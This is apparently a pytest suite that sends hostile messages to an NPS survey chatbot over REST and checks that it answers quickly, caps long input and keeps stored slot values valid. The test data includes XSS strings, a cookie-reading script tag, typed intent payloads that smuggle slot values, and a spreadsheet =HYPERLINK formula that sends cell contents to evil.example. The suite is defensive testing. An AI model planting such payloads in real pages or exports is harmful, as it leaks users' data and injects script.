"""Hostile input against the real bot over REST (issue 9, "hostile input gets an answer").

Each message below is sent where it does the most harm (at the score
question, or as a reason), by a customer with a conversation of their own.
Every one must:
- get an answer (at least one bot message) within ``ANSWER_SECONDS``;
- leave the slots valid: a score only 0-10, a touchpoint only a short id the
  customer did not type mid-survey, every stored text within the message cap,
  the why-chain within max_whys;
- not slow down another customer whose turn runs at the same time.

The 200 KB message relies on the REST channel's cap (channels/rest.py): the
bot reads only the first NPS_MAX_MESSAGE_CHARS and says so.
"""

from __future__ import annotations

import json
import re
import threading
import time

import pytest

from nps import drivers, known_issues
from nps.settings import load_settings
from tests.bot_process import DEFAULT_MODEL, BotProcess
from tests.databases import fresh_database

pytestmark = [
    pytest.mark.rasa,
    pytest.mark.skipif(
        not DEFAULT_MODEL.exists(), reason="no trained model: run `make train` (make test does)"
    ),
]

ANSWER_SECONDS = 2.0
MAX_WHYS = 5
MAX_MESSAGE_CHARS = 2000
BOT_SETTINGS = {
    "NPS_MAX_WHYS": str(MAX_WHYS),
    "NPS_MAX_CLARIFICATIONS": "2",
    "NPS_RESURVEY_DAYS": "30",
    "NPS_REVIEW_URL": "",
    "NPS_MAX_MESSAGE_CHARS": str(MAX_MESSAGE_CHARS),
}

DATA = load_settings().data_dir
CATALOGUE = drivers.load_catalogue(DATA / "drivers.yml")
ISSUE_IDS = {i.id for i in known_issues.load(DATA / "known_issues.yml", CATALOGUE)}

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Szczegóły")'

# (id, message sent at the score question)
AT_THE_SCORE_QUESTION = [
    ("309 digits", "9" * 309),
    ("5000 digits and a decimal comma", "9" * 5000 + ",5"),
    ("keycap digits", "8\ufe0f\u20e3" * 400),
    ("200 KB", "w skali 10 " * 18_200),  # the pattern the old parser was quadratic on
    ("200 KB without spaces", "9" * 200_000),
    ("control characters", "\x00\x01\x07\x08\x1b[31m 7 \x1b[0m\x7f\r\n"),
    ("RTL overrides", "\u202e01 ,\u202c\u2067 dałbym 3 \u2069"),
    ("lone surrogates", "\ud800 8 \udfff"),
    ("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)> 6"),
    ("a formula", FORMULA),
    ("emoji only", "🙂🔥👍🏽💯"),
    ("zero-width and combining marks", "\u200b" * 500 + "7" + "\u0301" * 5000),
]

# (id, message sent as the reason, after a score)
AS_A_REASON = [
    ("HTML in a comment", "<b>drogo</b><script>document.cookie</script> i kurier się spóźnił"),
    ("a formula in a comment", FORMULA + " kurier się spóźnił"),
    ("200 KB comment", "kurier zgubił paczkę " * 10_000),
]

# Every slot of the data contract (README, "The data it writes"), with a
# value a customer must not be able to store by typing /intent{json}.
CONTRACT_SLOTS = {
    "nps_score": 99,
    "nps_group": "promoter",
    "reason": FORMULA + "x" * 3000,
    "drivers": ["price:pos", "evil:neg"],
    "why_chain": ["x"] * 50,
    "known_issue": "evil_issue",
    "issue_resolved": True,
    "nps_score_after": 99,
    "contact_consent": True,
    "touchpoint": FORMULA,
    "improvement": FORMULA,
    "valued_most": FORMULA,
    "extra_comment": FORMULA,
    "survey_outcome": "finished",
    "last_survey_at": 1.0e12,
    "why_depth": 99,
    "why_stop": "specific",
    "why_driver": "evil",
}


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def bot(request, tmp_path_factory):
    # PostgreSQL refuses what SQLite stores (a NUL byte, a value longer than
    # its column), and production runs on it.
    with fresh_database(request.param, tmp_path_factory.mktemp("db")) as url:
        logs = tmp_path_factory.mktemp("logs")
        with BotProcess(db_url=url, env=BOT_SETTINGS, log_dir=logs) as running:
            yield running


_senders = iter(range(1_000_000))


def new_sender(label: str) -> str:
    return f"hostile-{re.sub(r'[^a-z0-9]+', '-', label.lower())}-{next(_senders)}"


def timed_send(bot: BotProcess, sender: str, text: str) -> tuple[list[dict], float]:
    start = time.monotonic()
    replies = bot.send(sender, text)
    return replies, time.monotonic() - start


def at_score_question(bot: BotProcess, label: str) -> str:
    sender = new_sender(label)
    bot.send(sender, "cześć")
    assert bot.slots(sender)["requested_slot"] == "nps_score"
    return sender


def utter_actions(bot: BotProcess, sender: str) -> list[str]:
    """Response names the bot said since the customer's last message."""
    events = bot.tracker(sender, include_events="ALL")["events"]  # /restart included
    last_user = max(i for i, e in enumerate(events) if e["event"] == "user")
    return [
        (e.get("metadata") or {}).get("utter_action") or "text"
        for e in events[last_user:]
        if e["event"] == "bot"
    ]


def assert_slots_valid(slots: dict) -> None:
    for name in ("nps_score", "nps_score_after"):
        value = slots[name]
        assert value is None or (value == int(value) and 0 <= value <= 10), (name, value)
    assert slots["nps_group"] in (None, "promoter", "passive", "detractor")
    touchpoint = slots["touchpoint"]
    assert touchpoint is None or re.fullmatch(r"[a-z0-9_.-]{1,64}", touchpoint), touchpoint
    for name in ("reason", "improvement", "valued_most", "extra_comment"):
        value = slots[name]
        assert value is None or (isinstance(value, str) and len(value) <= MAX_MESSAGE_CHARS), name
    chain = slots["why_chain"] or []
    assert len(chain) <= MAX_WHYS
    assert all(isinstance(w, str) and len(w) <= MAX_MESSAGE_CHARS for w in chain)
    for tag in slots["drivers"] or []:
        driver, _, polarity = tag.partition(":")
        assert driver in CATALOGUE and polarity in (drivers.POSITIVE, drivers.NEGATIVE), tag
    assert slots["known_issue"] in ISSUE_IDS | {None}
    assert slots["issue_resolved"] in (None, True, False)
    assert slots["contact_consent"] in (None, True, False)
    assert slots["survey_outcome"] in (None, "finished", "stopped")
    last = slots["last_survey_at"]
    assert last is None or last <= time.time() + 1


def answered_in_time(bot: BotProcess, sender: str, text: str) -> list[str]:
    replies, seconds = timed_send(bot, sender, text)
    assert replies, f"no answer to {text[:40]!r}"
    assert seconds < ANSWER_SECONDS, f"{seconds:.1f} s"
    assert_slots_valid(bot.slots(sender))
    return utter_actions(bot, sender)


@pytest.mark.parametrize(
    "text", [t for _, t in AT_THE_SCORE_QUESTION], ids=[i for i, _ in AT_THE_SCORE_QUESTION]
)
def test_hostile_answer_to_the_score_question(bot, text):
    sender = at_score_question(bot, text[:12])
    said = answered_in_time(bot, sender, text)
    # Cut messages are said to be cut, once; then the survey goes on.
    if len(text) > MAX_MESSAGE_CHARS:
        assert said.count("utter_message_shortened") == 1, said
    else:
        assert "utter_message_shortened" not in said
    assert bot.slots(sender)["requested_slot"] in ("nps_score", "reason"), said


@pytest.mark.parametrize("text", [t for _, t in AS_A_REASON], ids=[i for i, _ in AS_A_REASON])
def test_hostile_reason(bot, text):
    sender = at_score_question(bot, "reason")
    bot.send(sender, "3")
    assert bot.slots(sender)["requested_slot"] == "reason"
    answered_in_time(bot, sender, text)
    reason = bot.slots(sender)["reason"]
    assert reason and len(reason) <= MAX_MESSAGE_CHARS


@pytest.mark.parametrize("slot", sorted(CONTRACT_SLOTS))
@pytest.mark.parametrize("intent", ["give_score", "feedback", "start"])
def test_a_typed_intent_with_entities_sets_no_slot(bot, slot, intent):
    sender = at_score_question(bot, f"{intent}-{slot}")
    bad = CONTRACT_SLOTS[slot]
    payload = f"/{intent}{json.dumps({slot: bad})}"
    answered_in_time(bot, sender, payload)
    slots = bot.slots(sender)
    assert slots[slot] != bad
    assert slots["touchpoint"] is None  # nobody's touchpoint is typed mid-survey


def test_a_typed_start_payload_keeps_only_a_clean_touchpoint(bot):
    sender = new_sender("start-formula")
    answered_in_time(bot, sender, "/start" + json.dumps({"touchpoint": FORMULA}))
    assert bot.slots(sender)["touchpoint"] is None
    sender = new_sender("start-store")
    answered_in_time(bot, sender, '/start{"touchpoint": "Store"}')
    assert bot.slots(sender)["touchpoint"] == "store"


def test_restart_after_a_finished_survey_gives_no_second_score(bot):
    sender = at_score_question(bot, "restart")
    for line in ("10", "bardzo miła obsługa w sklepie", "szybka dostawa do paczkomatu"):
        bot.send(sender, line)
    assert bot.slots(sender)["survey_outcome"] == "finished"
    said = answered_in_time(bot, sender, "/restart")
    assert "utter_resurvey_cooldown" in said and "utter_intro" not in said
    bot.send(sender, "0")
    slots = bot.slots(sender)
    assert slots["nps_score"] is None and slots["last_survey_at"] is not None
    # Validated scores only (the form's slot extraction first holds the raw text).
    scores = [
        e["value"]
        for e in bot.tracker(sender, include_events="ALL")["events"]
        if e["event"] == "slot" and e["name"] == "nps_score" and isinstance(e["value"], int | float)
    ]
    assert scores == [10]


def test_another_customer_stays_fast_while_hostile_input_runs(bot):
    control = at_score_question(bot, "control")
    attackers = [at_score_question(bot, f"attacker-{i}") for i in range(3)]
    hostile = ["w skali 10 " * 18_200, "9" * 200_000, "8\ufe0f\u20e3" * 20_000]
    done: list[float] = []

    def attack(sender: str, text: str) -> None:
        _, seconds = timed_send(bot, sender, text)
        done.append(seconds)

    threads = [
        threading.Thread(target=attack, args=pair) for pair in zip(attackers, hostile, strict=True)
    ]
    for thread in threads:
        thread.start()
    control_seconds = []
    for line in ("3", "kurier zgubił paczkę"):
        _, seconds = timed_send(bot, control, line)
        control_seconds.append(seconds)
    for thread in threads:
        thread.join(30)
    assert len(done) == len(hostile) and max(done) < ANSWER_SECONDS * 2, done
    assert max(control_seconds) < ANSWER_SECONDS, control_seconds
    assert bot.slots(control)["nps_score"] == 3
